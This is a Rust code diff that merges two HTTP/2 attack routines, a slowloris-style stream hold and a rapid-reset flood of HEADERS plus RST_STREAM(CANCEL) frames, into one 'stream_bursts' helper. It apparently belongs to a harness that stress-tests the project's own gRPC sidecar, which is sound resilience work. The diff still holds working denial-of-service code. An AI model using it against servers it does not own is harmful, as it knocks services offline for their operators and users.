@@ -431,28 +431,7 @@ async fn slowloris(
     counters: &AttackCounters,
     stop: &AtomicBool,
 ) -> Result<(), ()> {
-    let (reader, mut writer) = socket.into_split();
-    let closed = Arc::new(AtomicBool::new(false));
-    drain(reader, Arc::clone(&closed));
-    writer.write_all(&h2raw::open()).await.map_err(drop)?;
-    let block = h2raw::grpc_request_block("Claim", &[]);
-    let mut stream = 1u32;
-    while !stop.load(Relaxed) && !closed.load(Relaxed) {
-        let mut burst = Vec::new();
-        for _ in 0..128 {
-            burst.extend(h2raw::headers(stream, &block, false));
-            stream += 2;
-        }
-        writer.write_all(&burst).await.map_err(drop)?;
-        counters.streams.fetch_add(128, Relaxed);
-        counters.bytes.fetch_add(burst.len() as u64, Relaxed);
-        tokio::time::sleep(Duration::from_secs(1)).await;
-    }
-    if closed.load(Relaxed) {
-        Err(())
-    } else {
-        Ok(())
-    }
+    stream_bursts(socket, counters, stop, 128, false, Duration::from_secs(1)).await
 }
 
 /// HEADERS then RST_STREAM(CANCEL), 100 pairs a write, as fast as the
@@ -462,6 +441,20 @@ async fn rst_flood(
     counters: &AttackCounters,
     stop: &AtomicBool,
 ) -> Result<(), ()> {
+    stream_bursts(socket, counters, stop, 100, true, Duration::ZERO).await
+}
+
+/// Opens `per_burst` Claim streams (HEADERS, no body) a write, each reset
+/// at once when `reset`, pausing `pause` between writes (none: only a
+/// yield), until stopped; `Err` when the sidecar closed the connection.
+async fn stream_bursts(
+    socket: TcpStream,
+    counters: &AttackCounters,
+    stop: &AtomicBool,
+    per_burst: u64,
+    reset: bool,
+    pause: Duration,
+) -> Result<(), ()> {
     let (reader, mut writer) = socket.into_split();
     let closed = Arc::new(AtomicBool::new(false));
     drain(reader, Arc::clone(&closed));
@@ -470,16 +463,21 @@ async fn rst_flood(
     let mut stream = 1u32;
     while !stop.load(Relaxed) && !closed.load(Relaxed) && stream < (1 << 30) {
         let mut burst = Vec::new();
-        for _ in 0..100 {
+        for _ in 0..per_burst {
             burst.extend(h2raw::headers(stream, &block, false));
-            burst.extend(h2raw::rst_stream(stream, h2raw::CANCEL));
+            if reset {
+                burst.extend(h2raw::rst_stream(stream, h2raw::CANCEL));
+            }
             stream += 2;
         }
         writer.write_all(&burst).await.map_err(drop)?;
-        counters.streams.fetch_add(100, Relaxed);
+        counters.streams.fetch_add(per_burst, Relaxed);
         counters.bytes.fetch_add(burst.len() as u64, Relaxed);
-        // Let the runtime breathe: the flood is bounded by the socket.
-        tokio::task::yield_now().await;
+        if pause.is_zero() {
+            tokio::task::yield_now().await;
+        } else {
+            tokio::time::sleep(pause).await;
+        }
     }
     if closed.load(Relaxed) {
         Err(())
